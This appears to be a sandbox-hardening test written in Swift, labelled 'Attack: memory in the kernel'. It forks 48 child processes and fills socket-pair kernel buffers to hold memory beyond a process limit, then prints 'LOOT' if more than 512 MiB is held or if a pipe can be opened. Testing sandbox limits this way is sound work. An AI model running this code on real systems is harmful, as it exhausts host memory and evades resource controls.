// Attack: memory in the kernel
// Tries: to keep more than the limit in sockets and pipes, whose buffers belong to no process
// Must: no other processes to share the work, no pipes, and a pair of sockets counts
import Glibc

@_silgen_name("fork") func forkForSockets() -> Int32
@_silgen_name("_exit") func exitOfSockets(_ code: Int32) -> Never

func attack(_ X: Tensor) throws {
  func fill(_ pairs: Int) -> Int {
    var total = 0
    let block = [UInt8](repeating: 1, count: 32768)
    for _ in 0..<pairs {
      var ends: [Int32] = [0, 0]
      guard socketpair(1, Int32(SOCK_STREAM.rawValue), 0, &ends) == 0 else { break }
      for end in ends {
        _ = fcntl(end, F_SETFL, O_NONBLOCK)
        while true {
          let sent = write(end, block, block.count)
          if sent <= 0 { break }
          total += sent
        }
      }
    }
    return total
  }
  for _ in 0..<48 {
    let child = forkForSockets()
    if child < 0 { break }
    if child == 0 {
      _ = fill(110)
      sleep(600)
      exitOfSockets(0)
    }
  }
  let total = fill(1000)
  if total > 512 << 20 { print("LOOT \(total >> 20) MiB in sockets") }
  var ends: [Int32] = [0, 0]
  if pipe(&ends) == 0 { print("LOOT a pipe") }
  for _ in 0..<1000 { usleep(100_000) }
}
